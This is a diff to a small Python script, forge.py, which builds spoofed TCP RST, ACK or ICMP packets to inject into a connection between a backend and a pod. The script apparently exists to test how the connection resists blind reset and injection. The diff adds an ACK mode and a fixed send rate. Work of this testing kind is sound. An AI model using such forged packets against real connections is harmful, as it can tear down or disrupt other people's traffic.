@@ -1,6 +1,6 @@
 """Packets of an attacker that knows a connection's addresses and ports and not its sequence numbers.
 
-forge.py rst|icmp BACKEND PORT POD PORT     for two seconds, as fast as it can
+forge.py rst|icmp|ack BACKEND PORT POD PORT     for two seconds, one in a millisecond
 """
 
 from __future__ import annotations
@@ -10,7 +10,8 @@ import struct
 import sys
 import time
 
-RST_ACK, SYN = 0x14, 0x02
+RST, SYN, ACK = 0x04, 0x02, 0x10
+FLAGS = {"rst": RST | ACK, "ack": ACK}
 
 
 def checksum(data: bytes) -> int:
@@ -38,8 +39,8 @@ def icmp(quoted: bytes) -> bytes:
 
 def main() -> None:
     kind, backend, port, pod, pod_port = sys.argv[1:]
-    if kind == "rst":
-        packet = ip(backend, pod, socket.IPPROTO_TCP, tcp(backend, int(port), pod, int(pod_port), RST_ACK))
+    if kind in FLAGS:
+        packet = ip(backend, pod, socket.IPPROTO_TCP, tcp(backend, int(port), pod, int(pod_port), FLAGS[kind]))
     else:
         sent = ip(pod, backend, socket.IPPROTO_TCP, tcp(pod, int(pod_port), backend, int(port), SYN))
         packet = ip("10.7.0.2", pod, socket.IPPROTO_ICMP, icmp(sent))
